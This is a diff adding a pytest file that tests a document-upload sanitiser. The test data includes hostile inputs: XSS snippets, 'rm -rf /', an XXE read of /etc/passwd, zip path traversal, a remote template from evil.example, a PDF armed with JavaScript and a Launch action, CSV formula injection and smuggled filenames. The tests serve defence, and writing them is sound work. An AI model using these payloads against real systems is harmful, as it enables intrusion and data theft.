@@ -1,0 +1,209 @@
+"""Which files are taken, and what is left of those that are: each hostile file is made here."""
+
+import io
+import unicodedata
+
+import pikepdf
+import pytest
+from PIL import Image
+
+from core.documents.sanitise import Unfit
+from core.documents.uploads import neutral_name, prepare
+from tests import files
+
+HTML = b"<!DOCTYPE html><script>alert(1)</script>"
+
+
+def taken(name, data):
+    return prepare(name, io.BytesIO(data), len(data))
+
+
+def refused(name, data):
+    with pytest.raises(Unfit) as found:
+        taken(name, data)
+    return str(found.value)
+
+
+def by_name(value: object) -> str:
+    """A case by the name of its file: made-up files hold the time and chance, and each worker makes its own."""
+    return value if isinstance(value, str) else "data"
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "media_type"),
+    [
+        ("plan.pdf", files.pdf(), "application/pdf"),
+        ("map.png", files.png(), "image/png"),
+        ("photo.JPEG", files.jpeg(), "image/jpeg"),
+        ("photo.jpg", files.jpeg(), "image/jpeg"),
+        ("seizures.xlsx", files.xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+        ("plan.docx", files.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+        ("seizures.csv", b"year,ivory\n2024,5\n", "text/csv"),
+        ("note.txt", "Ghi chú về ngà voi\n".encode(), "text/plain"),
+    ],
+    ids=by_name,
+)
+def test_the_kinds_on_the_list_are_taken(name, data, media_type):
+    assert taken(name, data).media_type == media_type
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("page.html", HTML),
+        ("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+        ("plan.pdf", HTML),
+        ("picture.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
+        ("note.txt", HTML),
+        ("note.txt", b"\n\n  <svg onload=alert(1)>"),
+        ("table.csv", b"a,b\n" + HTML),
+        ("note.txt", b"#!/bin/sh\nrm -rf /\n"),
+        ("note.txt", b"\x00\x01\x02"),
+        ("note.txt", files.png()),
+        ("note.txt", "Ngà".encode("utf-16")),
+        ("photo.jpg", files.png()),
+        ("plan.docx", files.xlsx()),
+        ("plan.docx", files.pdf()),
+        ("plan.xlsx", files.docx()),
+        ("plan.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
+        ("plan.exe", b"MZ"),
+        ("plan.pdf.exe", files.pdf()),
+        ("plan", files.pdf()),
+        ("plan.pdf", b""),
+        ("plan.pdf", b"%PDF-1.7\nnothing more"),
+        ("plan.pdf", HTML + files.pdf()),
+        ("picture.png", files.png()[:40]),
+        ("picture.png", files.bomb_png()),
+        ("plan.docx", files.docx()[:60]),
+        ("plan.docx", files.docx(**{"word/vbaProject.bin": "x"})),
+        ("plan.docx", files.docx(**{"word/embeddings/oleObject1.bin": "x"})),
+        ("plan.docx", files.docx(**{"word/a.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'})),
+        ("plan.docx", files.docx(**{"word/a.xml": "<!ENTITY".encode("utf-16-le")})),
+        ("plan.docx", files.docx(**{"word/media/big.bin": b"\x00" * 130_000_000})),
+        ("plan.docx", files.docx(**{"../../evil.xml": "<x/>"})),
+        ("plan.docx", files.docx(**{f"word/{n}.txt": "" for n in range(2_100)})),
+        (
+            "plan.docx",
+            files.docx(
+                **{
+                    "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="a" TargetMode="External" '
+                    'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
+                }
+            ),
+        ),
+        ("plan.xlsx", files.parcel(**{"[Content_Types].xml": "macroEnabled", "xl/workbook.xml": "<x/>"})),
+    ],
+    ids=by_name,
+)
+def test_what_is_not_on_the_list_or_not_what_it_says_is_refused_in_words(name, data):
+    assert refused(name, data).endswith(".")
+
+
+def test_a_link_in_a_text_is_no_reason_to_refuse_it():
+    link = '<Relationships><Relationship TargetMode="External" Type="http://x/hyperlink" Target="https://cites.org"/></Relationships>'
+
+    assert taken("plan.docx", files.docx(**{"word/_rels/document.xml.rels": link}))
+
+
+def test_a_file_over_the_limit_is_refused_whatever_size_it_claims(settings):
+    settings.DOCUMENT_MAX_BYTES = 1_000
+
+    assert "larger" in refused("note.txt", b"a" * 1_001)
+    with pytest.raises(Unfit, match="larger"):
+        prepare("note.txt", io.BytesIO(b"a" * 5_000), 10)
+
+
+def test_a_picture_that_is_a_page_as_well_is_only_a_picture_afterwards():
+    kept = taken("map.png", files.png() + HTML).content
+
+    assert b"script" not in kept
+    assert Image.open(io.BytesIO(kept)).size == (8, 8)
+
+
+def test_a_picture_loses_what_the_camera_wrote():
+    exif = Image.Exif()
+    exif[0x010E] = "secret-place"
+
+    assert b"secret-place" not in taken("photo.jpg", files.jpeg(exif=exif)).content
+
+
+def armed(made):
+    """Everything in a PDF that runs or carries something along."""
+    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('payload')", Type=pikepdf.Name.Action)
+    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="payload.exe")
+    made.Root.OpenAction = made.make_indirect(script)
+    made.Root.AA = pikepdf.Dictionary(WC=script)
+    made.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", script])),
+    )
+    made.attachments["payload.exe"] = b"MZ payload"
+    page = made.pages[0]
+    page.AA = pikepdf.Dictionary(O=launch)
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=[0, 0, 1, 1],
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://cites.org", Next=pikepdf.Array([script])),
+    )
+    clip = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 1, 1], T="payload")
+    page.Annots = pikepdf.Array([made.make_indirect(link), made.make_indirect(clip)])
+    made.Root.AcroForm = pikepdf.Dictionary(XFA="payload", Fields=pikepdf.Array([]))
+
+
+def test_a_pdf_loses_everything_that_runs_and_keeps_its_pages_and_links():
+    kept = taken("plan.pdf", files.pdf(armed)).content
+
+    with pikepdf.open(io.BytesIO(kept)) as read:
+        whole = b"".join(repr(item).encode() for item in read.objects)
+        assert len(read.pages) == 1
+        assert not read.attachments
+    for word in (b"payload", b"JavaScript", b"Launch", b"RichMedia", b"OpenAction", b"/AA", b"XFA"):
+        assert word not in whole
+        assert word not in kept
+    assert b"cites.org" in whole
+
+
+@pytest.mark.parametrize("owner_only", [True, False])
+def test_a_protected_pdf_is_refused(owner_only):
+    lock = pikepdf.Encryption(owner="o", user="" if owner_only else "u")
+
+    assert "password" in refused("plan.pdf", files.pdf(encryption=lock))
+
+
+def test_a_pdf_whose_pages_go_round_in_circles_does_not_hang():
+    def circle(made):
+        first = made.make_indirect(pikepdf.Dictionary())
+        second = made.make_indirect(pikepdf.Dictionary(Other=first))
+        first.Other = second
+        made.Root.Circle = first
+
+    assert taken("plan.pdf", files.pdf(circle))
+
+
+def test_cells_that_would_run_in_a_spreadsheet_are_marked_as_text():
+    kept = taken("t.csv", b"name;value\n=cmd|' /C calc'!A0;-5\n@SUM(A1);+3.5\n").content.decode()
+
+    assert "'=cmd" in kept
+    assert "'@SUM" in kept
+    assert ";-5" in kept
+    assert ";+3.5" in kept
+
+
+@pytest.mark.parametrize(
+    ("typed", "kept"),
+    [
+        ("plan.pdf", "plan.pdf"),
+        ("../../etc/passwd.pdf", "passwd.pdf"),
+        ("C:\\Users\\ana\\plan.PDF", "plan.pdf"),
+        ("a\u202efdp.png", "a fdp.png"),
+        ("a\x00b\nc.txt", "a b c.txt"),
+        ("  .htaccess.txt", "htaccess.txt"),
+        ('x"; filename="evil.exe.pdf', "x filename= evil.exe.pdf"),
+        (unicodedata.normalize("NFD", "Kế hoạch.pdf"), "Kế hoạch.pdf"),
+        ("ແຜນການ.pdf", "ແຜນການ.pdf"),
+        (".pdf", "document.pdf"),
+        ("x" * 400 + ".pdf", "x" * 120 + ".pdf"),
+    ],
+)
+def test_names_are_neutral(typed, kept):
+    assert neutral_name(typed) == kept
